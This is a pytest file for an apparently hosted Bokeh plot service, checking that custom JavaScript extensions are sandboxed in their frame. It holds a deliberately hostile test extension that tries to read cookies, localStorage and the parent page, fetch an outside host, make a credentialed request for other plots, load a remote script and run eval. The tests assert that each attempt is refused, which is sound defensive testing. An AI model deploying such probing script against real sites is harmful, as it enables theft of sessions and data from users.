"""Extensions are files of one plot, and run under the policy of its frame without access to anything else."""

import pytest
import requests
from bokeh.core.properties import String
from bokeh.document import Document
from bokeh.models import CustomJS, LayoutDOM
from bokeh.models.widgets.markups import Div
from bokeh.util.compiler import JavaScript

from bokeh_cloud import Plot
from tests.support.chromium import Tab, frame_of, wait_ready
from tests.support.populated_cloud import PopulatedCloud

SNOOPING_MODEL = """
const {LayoutDOM, LayoutDOMView} = require("models/layouts/layout_dom")

const attempt = async (action) => {
  try { return String(await action()) } catch (error) { return `refused: ${error.name}` }
}
window.report = Promise.all([
  attempt(() => document.cookie || "none"),
  attempt(() => localStorage.length),
  attempt(() => parent.document.title),
  attempt(() => fetch("https://example.invalid/")),
  attempt(() => fetch("/ada/plots", {credentials: "include"}).then((response) => response.status)),
  new Promise((resolve) => {
    const script = document.createElement("script")
    script.src = "https://example.invalid/x.js"
    script.onload = () => resolve("loaded")
    script.onerror = () => resolve("refused")
    document.head.append(script)
  }),
])

class SnoopingView extends LayoutDOMView {
  get child_models() { return [] }
}
class Snooping extends LayoutDOM {
  static __name__ = "Snooping"

  static {
    this.prototype.default_view = SnoopingView
    this.define(({Str}) => ({text: [Str, ""]}))
  }
}
exports.Snooping = Snooping
"""


class Snooping(LayoutDOM):
    """A model whose code tries to access what it must not."""

    __implementation__ = JavaScript(SNOOPING_MODEL)

    text = String(default="")


class Compiling(Snooping):
    """A model whose code compiles code."""

    __implementation__ = JavaScript(
        SNOOPING_MODEL.replace("Snooping", "Compiling") + "\nnew Function('return 1')()\n"
    )


@pytest.fixture(scope="module")
def plot(populated: PopulatedCloud) -> Plot:
    model = Snooping()
    model.update(width=100, height=100)
    return populated.server.publish(model, "snooping")


@pytest.fixture(scope="module")
def script(populated: PopulatedCloud, plot: Plot) -> str:
    """The path of the extension in the frame."""
    frame = populated.cloud.request("GET", f"/plots/{plot.id}/embed", populated.key).text
    [path] = {part for part in frame.split('"') if "/extensions/" in part}
    return str(path)


def test_an_extension_runs_without_access_to_anything_else(ada: Tab, plot: Plot) -> None:
    ada.page.goto(plot.url)
    frame = frame_of(ada.page)
    wait_ready(frame)
    cookie, *others = frame.evaluate("window.report")
    assert cookie in {"none", "refused: SecurityError"}
    storage, parent, other_site, plots, script = others
    assert storage == parent == "refused: SecurityError"
    assert other_site == "refused: TypeError"
    assert plots in {"401", "403", "refused: TypeError"}
    assert script == "refused"
    assert ada.page.get_by_text("contains code").is_visible()


def test_eval_is_allowed_only_for_extensions_that_compile_code(populated: PopulatedCloud, plot: Plot) -> None:
    compiling = Compiling()
    compiling.update(width=100, height=100)
    other = populated.server.publish(compiling, "compiling")
    policies = [
        populated.cloud.request("GET", f"/plots/{published.id}/embed", populated.key).headers[
            "Content-Security-Policy"
        ]
        for published in (plot, other)
    ]
    assert ["'unsafe-eval'" in policy for policy in policies] == [False, True]


def test_an_extension_is_a_file_of_its_plot(populated: PopulatedCloud, plot: Plot, script: str) -> None:
    response = requests.get(populated.url + script, timeout=30)
    assert response.headers["Content-Type"].startswith("text/javascript")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "immutable" in response.headers["Cache-Control"]
    other = script.replace(plot.id, populated.plots["sine"].id)
    assert requests.get(populated.url + other, timeout=30).status_code == 404


def test_the_frame_of_another_plot_does_not_have_the_extension(
    ada: Tab, populated: PopulatedCloud, script: str
) -> None:
    urls: list[str] = []
    ada.page.on("request", lambda request: urls.append(request.url))
    ada.page.goto(populated.plots["sine"].url)
    wait_ready(frame_of(ada.page))
    assert not [url for url in urls if "/extensions/" in url]
    assert frame_of(ada.page).evaluate("typeof window.report") == "undefined"


def test_a_module_of_javascript_runs(ada: Tab, populated: PopulatedCloud) -> None:
    """BokehJS imports code with a default export from a `blob:` URL."""
    document = Document()
    document.add_root(Div(text="before"))
    code = "export default ({div}) => { div.text = 'set by a module' }"
    callback = CustomJS(code=code, args={"div": document.roots[0]})
    document.js_on_event("document_ready", callback)
    ada.page.goto(populated.server.publish(document, "module").url)
    frame = frame_of(ada.page)
    wait_ready(frame)
    frame.get_by_text("set by a module").wait_for()
    assert ada.errors == []
